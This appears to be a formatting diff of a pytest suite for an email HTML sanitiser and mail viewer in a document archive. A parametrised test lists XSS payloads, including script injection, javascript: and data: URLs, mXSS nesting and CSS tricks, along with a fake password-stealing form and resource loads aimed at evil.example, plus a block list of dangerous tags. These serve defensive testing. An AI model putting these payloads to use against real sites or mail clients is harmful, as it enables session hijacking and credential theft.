@@ -19,53 +19,85 @@ PART_URL = "/dms/doc/7/mail/part/1.2/"
 
 def clean(html: str, *, allow_remote: bool = False, cids: dict[str, str] | None = None):
     known = {"logo@example.com": PART_URL} if cids is None else cids
-    return sanitize_mail_html(html, cid_url=known.get, allow_remote=allow_remote,
-                              placeholder_url="/static/placeholder.svg")
+    return sanitize_mail_html(
+        html, cid_url=known.get, allow_remote=allow_remote, placeholder_url="/static/placeholder.svg"
+    )
 
 
 # --- The sanitiser -------------------------------------------------------------------------
 
-@pytest.mark.parametrize("payload", [
-    "<script>alert(1)</script>",
-    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
-    '<img src="x" onerror="alert(1)">',
-    "<body onload=alert(1)>",
-    '<div onmouseover="alert(1)">hover</div>',
-    '<a href="javascript:alert(1)">click</a>',
-    '<a href=" JaVaScRiPt:alert(1)">click</a>',
-    '<a href="java&#x09;script:alert(1)">click</a>',
-    '<a href="vbscript:msgbox(1)">click</a>',
-    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
-    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
-    '<form action="http://evil.example/steal"><input name="password"><button>Log in</button></form>',
-    '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
-    '<base href="http://evil.example/">',
-    '<link rel="stylesheet" href="http://evil.example/x.css">',
-    '<iframe src="http://evil.example/"></iframe>',
-    '<object data="http://evil.example/x.swf"></object><embed src="http://evil.example/x.swf">',
-    '<svg onload="alert(1)"><script>alert(1)</script></svg>',
-    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
-    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
-    '<style>@import url(http://evil.example/x.css); body{background:url(http://evil.example/t.png)}</style>',
-    '<p style="background:url(javascript:alert(1))">x</p>',
-    '<p style="width: expression(alert(1))">x</p>',
-    '<p style="behavior: url(x.htc); -moz-binding: url(http://evil.example/x.xml#x)">x</p>',
-    '<p style="background: u\\72l(http://evil.example/t.png)">x</p>',
-    '<p style="background: image-set(\'http://evil.example/t.png\' 1x)">x</p>',
-    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
-    '<template><script>alert(1)</script></template>',
-    '<textarea><script>alert(1)</script></textarea>',
-    '<video poster="http://evil.example/p.png"><source src="http://evil.example/v.mp4"></video>',
-    '<table background="http://evil.example/bg.png"><tr><td background="http://evil.example/x">c</td></tr></table>',
-    '<img src="x" srcset="http://evil.example/x.png 1x">',
-    '<!--[if mso]><img src="http://evil.example/x.png"><![endif]-->',
-])
+
+@pytest.mark.parametrize(
+    "payload",
+    [
+        "<script>alert(1)</script>",
+        "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
+        '<img src="x" onerror="alert(1)">',
+        "<body onload=alert(1)>",
+        '<div onmouseover="alert(1)">hover</div>',
+        '<a href="javascript:alert(1)">click</a>',
+        '<a href=" JaVaScRiPt:alert(1)">click</a>',
+        '<a href="java&#x09;script:alert(1)">click</a>',
+        '<a href="vbscript:msgbox(1)">click</a>',
+        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
+        '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
+        '<form action="http://evil.example/steal"><input name="password"><button>Log in</button></form>',
+        '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
+        '<base href="http://evil.example/">',
+        '<link rel="stylesheet" href="http://evil.example/x.css">',
+        '<iframe src="http://evil.example/"></iframe>',
+        '<object data="http://evil.example/x.swf"></object><embed src="http://evil.example/x.swf">',
+        '<svg onload="alert(1)"><script>alert(1)</script></svg>',
+        '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
+        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+        "<style>@import url(http://evil.example/x.css); body{background:url(http://evil.example/t.png)}</style>",
+        '<p style="background:url(javascript:alert(1))">x</p>',
+        '<p style="width: expression(alert(1))">x</p>',
+        '<p style="behavior: url(x.htc); -moz-binding: url(http://evil.example/x.xml#x)">x</p>',
+        '<p style="background: u\\72l(http://evil.example/t.png)">x</p>',
+        "<p style=\"background: image-set('http://evil.example/t.png' 1x)\">x</p>",
+        '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+        "<template><script>alert(1)</script></template>",
+        "<textarea><script>alert(1)</script></textarea>",
+        '<video poster="http://evil.example/p.png"><source src="http://evil.example/v.mp4"></video>',
+        '<table background="http://evil.example/bg.png"><tr><td background="http://evil.example/x">c</td></tr></table>',
+        '<img src="x" srcset="http://evil.example/x.png 1x">',
+        '<!--[if mso]><img src="http://evil.example/x.png"><![endif]-->',
+    ],
+)
 def test_nothing_that_runs_submits_embeds_or_fetches_survives(payload):
     html = clean(payload).html.lower()
-    for needle in ("<script", "onerror", "onload", "onmouseover", "javascript:", "vbscript:", "data:",
-                   "<form", "<input", "<button", "<meta", "<base", "<link", "<iframe", "<object",
-                   "<embed", "<svg", "<math", "<style", "<video", "<source", "<template",
-                   "<textarea", "expression", "behavior", "binding", "evil.example", "url(", "srcset"):
+    for needle in (
+        "<script",
+        "onerror",
+        "onload",
+        "onmouseover",
+        "javascript:",
+        "vbscript:",
+        "data:",
+        "<form",
+        "<input",
+        "<button",
+        "<meta",
+        "<base",
+        "<link",
+        "<iframe",
+        "<object",
+        "<embed",
+        "<svg",
+        "<math",
+        "<style",
+        "<video",
+        "<source",
+        "<template",
+        "<textarea",
+        "expression",
+        "behavior",
+        "binding",
+        "evil.example",
+        "url(",
+        "srcset",
+    ):
         assert needle not in html, (payload, html)
 
 
@@ -96,8 +128,10 @@ def test_relative_links_are_dropped_they_would_point_into_the_archive():
 
 
 def test_style_keeps_text_and_box_properties_and_drops_positioning():
-    result = clean('<p style="COLOR: Red; position: fixed; top: 0; z-index: 9; margin: 0 auto; '
-                   'background-color: rgb(1, 2, 3); content: \'x\'; cursor: url(x.cur)">x</p>')
+    result = clean(
+        '<p style="COLOR: Red; position: fixed; top: 0; z-index: 9; margin: 0 auto; '
+        "background-color: rgb(1, 2, 3); content: 'x'; cursor: url(x.cur)\">x</p>"
+    )
     style = re.search(r'style="([^"]*)"', result.html).group(1)
     assert "color:red" in style.replace(" ", "").lower()
     assert "margin" in style and "background-color" in style
@@ -106,9 +140,11 @@ def test_style_keeps_text_and_box_properties_and_drops_positioning():
 
 
 def test_remote_images_become_a_placeholder_and_are_counted():
-    result = clean('<img src="https://tracker.example/p.gif" width="1" height="1" alt="pixel">'
-                   '<img src="//cdn.example/logo.png">'
-                   '<p style="background: #fff url(https://cdn.example/bg.png)">x</p>')
+    result = clean(
+        '<img src="https://tracker.example/p.gif" width="1" height="1" alt="pixel">'
+        '<img src="//cdn.example/logo.png">'
+        '<p style="background: #fff url(https://cdn.example/bg.png)">x</p>'
+    )
     assert "tracker.example" not in result.html and "cdn.example" not in result.html
     assert result.html.count('src="/static/placeholder.svg"') == 2
     assert 'alt="pixel"' in result.html  # the placeholder keeps the image's size and text
@@ -116,8 +152,11 @@ def test_remote_images_become_a_placeholder_and_are_counted():
 
 
 def test_remote_images_load_only_when_asked_for():
-    result = clean('<img src="https://cdn.example/logo.png"><img src="//cdn.example/x.png">'
-                   '<p style="background: url(https://cdn.example/bg.png)">x</p>', allow_remote=True)
+    result = clean(
+        '<img src="https://cdn.example/logo.png"><img src="//cdn.example/x.png">'
+        '<p style="background: url(https://cdn.example/bg.png)">x</p>',
+        allow_remote=True,
+    )
     assert 'src="https://cdn.example/logo.png"' in result.html
     assert 'src="https://cdn.example/x.png"' in result.html
     assert "https://cdn.example/bg.png" in result.html
@@ -127,16 +166,18 @@ def test_remote_images_load_only_when_asked_for():
 
 
 def test_cid_images_point_at_the_part_of_the_message():
-    result = clean('<img src="cid:logo@example.com"><img src="CID:%3Clogo%40Example.com%3E">'
-                   '<img src="cid:unknown@example.com">'
-                   '<td style="background:url(cid:logo@example.com)">x</td>')
+    result = clean(
+        '<img src="cid:logo@example.com"><img src="CID:%3Clogo%40Example.com%3E">'
+        '<img src="cid:unknown@example.com">'
+        '<td style="background:url(cid:logo@example.com)">x</td>'
+    )
     assert result.html.count(f'src="{PART_URL}"') == 2
     assert result.html.count("<img>") == 1  # an unknown Content-ID shows nothing
     assert result.cids_used == {"logo@example.com"}
 
 
 def test_a_text_body_is_escaped_and_its_links_open_in_a_new_tab():
-    html = text_to_html('<script>alert(1)</script> see https://example.com/a?b=1 & <b>x</b>')
+    html = text_to_html("<script>alert(1)</script> see https://example.com/a?b=1 & <b>x</b>")
     assert "<script" not in html and "&lt;script&gt;" in html and "<b>" not in html
     assert '<a href="https://example.com/a?b=1" target="_blank" rel="noopener noreferrer">' in html
 
@@ -200,7 +241,7 @@ def test_the_view_tab_shows_the_decoded_headers_and_a_sandboxed_body_frame(clien
     assert "allow-scripts" not in frame and "allow-same-origin" not in frame
     assert f'src="{body_url(mail)}"' in frame
     original = mail.original()
-    assert f'{reverse("archive:file", args=[mail.pk, original.pk])}?download=1' in page
+    assert f"{reverse('archive:file', args=[mail.pk, original.pk])}?download=1" in page
     assert "1 remote image blocked" in page
     assert f'href="{body_url(mail)}?remote=1" target="mail-body-{mail.pk}"' in page
     assert "<script>alert(1)" not in page and "tracker.example" not in page
@@ -285,8 +326,10 @@ def test_inline_images_are_served_from_the_message(client, alice, mail, processe
 
 def test_an_svg_part_is_never_shown_inline(client, alice, group_a):
     svg = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
-    doc = archive_mail(html_mail('<img src="cid:logo@example.com">', inline_cid=None,
-                                 attachment=("x.svg", "image/svg+xml", svg)), group_a)
+    doc = archive_mail(
+        html_mail('<img src="cid:logo@example.com">', inline_cid=None, attachment=("x.svg", "image/svg+xml", svg)),
+        group_a,
+    )
     client.force_login(alice)
     page = client.get(document_url(doc)).content.decode()
     part = re.search(r'/mail/part/([0-9.]+)/\?download=1">x.svg<', page).group(1)
@@ -307,7 +350,7 @@ def test_an_unparseable_mail_says_why_and_offers_the_raw_file(client, alice, gro
     page = client.get(document_url(doc)).content.decode()
     problem = re.search(r'<div class="mail-problem".*?</div>', page, re.S).group(0)
     assert "no mail headers found" in problem
-    raw_link = f'{reverse("archive:file", args=[doc.pk, doc.original().pk])}?download=1'
+    raw_link = f"{reverse('archive:file', args=[doc.pk, doc.original().pk])}?download=1"
     assert raw_link in problem
     raw = client.get(raw_link)
     assert raw["Content-Disposition"].startswith("attachment;")
@@ -323,8 +366,7 @@ def test_a_mail_beyond_the_mime_limits_is_explained(client, alice, group_a, sett
     assert client.get(body_url(doc)).status_code == 200
 
 
-def test_a_mail_whose_original_is_missing_from_the_store_is_explained(client, alice, mail, settings,
-                                                                      tmp_path):
+def test_a_mail_whose_original_is_missing_from_the_store_is_explained(client, alice, mail, settings, tmp_path):
     settings.STORAGE_DIR = tmp_path / "empty-store"
     client.force_login(alice)
     page = client.get(document_url(mail)).content.decode()
@@ -349,6 +391,7 @@ def test_an_uploaded_eml_opens_in_the_mail_view_in_a_mail_archive(client, alice,
 
 
 # --- Access ------------------------------------------------------------------------------
+
 
 def mail_routes(number: int) -> list[str]:
     return [
@@ -391,6 +434,7 @@ def test_a_published_mail_opens_without_login_and_every_request_is_logged(client
 
 # The body frame is sandboxed without allow-same-origin: browsers send its image
 # requests without the SameSite session cookie, so the body signs its image URLs.
+
 
 def signed_image_url(client, doc: Document) -> str:
     [url] = re.findall(r'src="(/dms/doc/\d+/mail/part/[0-9.]+/\?t=[^"]+)"', client.get(body_url(doc)).content.decode())
@@ -436,5 +480,5 @@ def test_a_mail_too_large_to_show_still_shows_its_headers_and_the_raw_file(clien
     page = client.get(document_url(mail)).content.decode()
     assert "too large to show in the browser" in page
     assert 'id="mail-subject">Grüße aus Zürich' in page
-    assert f'{reverse("archive:file", args=[mail.pk, mail.original().pk])}?download=1' in page
+    assert f"{reverse('archive:file', args=[mail.pk, mail.original().pk])}?download=1" in page
     assert 'id="mail-body"' not in page
